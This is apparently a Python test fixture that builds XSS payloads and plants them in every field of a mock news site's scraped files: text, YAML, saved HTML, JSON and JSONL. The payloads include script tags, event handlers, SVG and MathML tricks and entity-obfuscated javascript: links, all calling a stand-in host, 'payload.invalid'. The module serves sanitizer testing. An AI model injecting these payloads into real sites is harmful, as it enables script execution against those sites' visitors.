"""A corpus of XSS payloads, and a site whose every scraped field carries them.

Each payload, if it ever ran, would do all three things a browser test can
see: open a dialog, set a global (``window.__xss``) and request the payload
host (``payload.invalid``). They go through every reader (text, sidecar,
saved page, JSON, JSON lines) and every field (headline, section, outlet,
body, sidecar values, ``sources.yaml`` names, record fields).
"""

from __future__ import annotations

import json

HOST = "payload.invalid"
RUN = f"window.__xss=1;alert(1);new Image().src='//{HOST}/'+1"

# Markup payloads: script tags, event attributes, SVG and MathML tricks,
# javascript: links with entity and case variants, malformed and nested
# tags, and </script> inside text.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f"</script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN.replace(' ', '/')}>",
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x="0" y="20">svg link</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<math href="javascript:{RUN}">math link</math>',
    f'<a href="javascript:{RUN}">plain javascript link</a>',
    f'<a href="JaVaScRiPt:{RUN}">cased link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href=" &#14; javascript:alert(1)">leading junk</a>',
    '<a href="vbscript:msgbox(1)">vbscript link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object><embed src="//{HOST}/x.swf">',
    f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">go</button></form>',
    f'<base href="//{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<style>@import '//{HOST}/x.css';</style>",
    f'<p style="background:url(//{HOST}/bg.png)">styled</p>',
    f'<details open ontoggle="{RUN}">details</details>',
    f'<body onload="{RUN}">',
    f'"><script>{RUN}</script>',
    f'\'><img src=x onerror="{RUN}">',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f'<a href="https://ok.example/" onclick="{RUN}" onmouseover="{RUN}">link with handlers</a>',
]
# One line of them, for one-line fields (no "|" or newline in any payload).
ONE_LINE = " ".join(PAYLOADS[:4] + PAYLOADS[10:13] + PAYLOADS[28:30])
JS_URL = f"javascript:{RUN}"


PLACES = ("quay", "slipway", "crane yard", "ferry ramp", "fish market", "dry dock")


def _body(intro: str, day: int) -> list[str]:
    """Real sentences, each with payloads in it, so the story survives cleaning.

    Each story's witnesses stood somewhere else, so no story is a repost of another.
    """
    paragraphs = [intro]
    for n, payload in enumerate(PAYLOADS):
        place = PLACES[(n * day) % len(PLACES)]
        paragraphs.append(
            f"Witness {n} of day {day} saw {payload} by the {place} that night, she told the inquiry."
        )
    return paragraphs


def text_story() -> str:
    head = (
        f"Harbour inquiry hears {PAYLOADS[0]} witnesses | Courts {PAYLOADS[3]} | Xss Courier {PAYLOADS[10]}"
    )
    body = _body(
        "The harbour inquiry opened in Kellhaven on 18 November 2026 and heard from its first witnesses.", 1
    )
    return head + "\n\n" + "\n\n".join(body) + "\n"


def sidecar() -> str:
    values = {
        "title": f"Inquiry {PAYLOADS[0]} opens",
        "section": ONE_LINE,
        "category": f"Courts {PAYLOADS[3]}",
        "author": f"Reporter {PAYLOADS[2]}",
        "source": "Xss Courier",
        "tags": [PAYLOADS[0], PAYLOADS[3], f"Kellhaven {PAYLOADS[10]}"],
        "summary": f"The inquiry opened. {PAYLOADS[2]} {PAYLOADS[3]}",
        "url": JS_URL,
        "related": [JS_URL, PAYLOADS[0]],
        "language": f'en"><script>{RUN}</script>',
        "event": PAYLOADS[0],
        "date": "2026-11-18",
    }
    return json.dumps(values)  # JSON is YAML, and quotes every payload safely


def sources() -> str:
    return json.dumps(
        {
            "outlets": {
                "xss": {
                    "name": f"Xss {PAYLOADS[0]} Courier",
                    "aliases": ["Xss Courier", f"Xss {PAYLOADS[3]}"],
                    "hosts": ["xss-courier.example"],
                    "sections": {"Courts": f"Courts {PAYLOADS[3]}"},
                }
            }
        }
    )


def saved_page() -> str:
    body = "\n".join(
        f"<p>{p}</p>"
        for p in _body("The harbour inquiry took more evidence in Kellhaven on 19 November 2026.", 2)
    )
    return f"""<!DOCTYPE html>
<html lang="en"><head>
<title>Second day of the inquiry {PAYLOADS[0]}</title>
<meta property="og:title" content="Second day of the inquiry &lt;script&gt;{RUN}&lt;/script&gt;">
<meta property="og:type" content="article">
<meta property="og:site_name" content="Xss Courier {PAYLOADS[3].replace('"', "&quot;")}">
<meta name="author" content="Reporter &lt;img src=x onerror=alert(1)&gt;">
<meta property="article:section" content="Courts &lt;script&gt;alert(1)&lt;/script&gt;">
<meta property="article:published_time" content="2026-11-19T09:00:00Z">
<link rel="canonical" href="{JS_URL}">
<script>{RUN}</script>
</head><body onload="{RUN}">
<article><h1>Second day of the inquiry</h1>
{body}
<h2>What the crane driver said {PAYLOADS[0]}</h2>
<ul><li>He saw the lights {PAYLOADS[3]}.</li><li>He heard a shout {PAYLOADS[10]}.</li></ul>
<blockquote><p>It was dark and the rain was heavy {PAYLOADS[2]}, said the driver.</p></blockquote>
</article></body></html>"""


def records() -> tuple[str, str]:
    """A .jsonl of two hostile records and a .json list of one."""
    first = {
        "title": f"Inquiry day three {PAYLOADS[0]}",
        "html": "".join(
            f"<p>{p}</p>" for p in _body("The harbour inquiry sat for a third day on 20 November 2026.", 3)
        ),
        "url": JS_URL,
        "date": "2026-11-20",
        "source": f"Xss Courier {PAYLOADS[3]}",
        "authors": [f"Reporter {PAYLOADS[0]}", PAYLOADS[10]],
        "categories": [f"Courts {PAYLOADS[2]}"],
        "tags": [PAYLOADS[0], f"Harbour {PAYLOADS[3]}"],
        "language": f"en{PAYLOADS[0]}",
    }
    second = {
        "title": f"Inquiry day four {PAYLOADS[3]}",
        "text": "\n".join(_body("The harbour inquiry heard its last witnesses on 21 November 2026.", 4)),
        "url": "https://xss-courier.example/day-four",
        "date_publish": "2026-11-21 10:00:00",
        "sitename": "Xss Courier",
        "section": ONE_LINE,
    }
    third = {
        "title": f"Inquiry report due {PAYLOADS[10]}",
        "content": "".join(
            f"<p>{p}</p>"
            for p in _body("The harbour inquiry will report in January, it said on 22 November 2026.", 5)
        ),
        "published": "2026-11-22",
        "hostname": "xss-courier.example",
    }
    return json.dumps(first) + "\n" + json.dumps(second) + "\n", json.dumps([third])


def site_files() -> dict[str, str]:
    """Every hostile input of the site, by path under the content folder."""
    jsonl, json_list = records()
    return {
        "scraped/xss/inquiry.txt": text_story(),
        "scraped/xss/inquiry.yaml": sidecar(),
        "scraped/xss/day-two.html": saved_page(),
        "scraped/xss/days.jsonl": jsonl,
        "scraped/xss/report.json": json_list,
    }
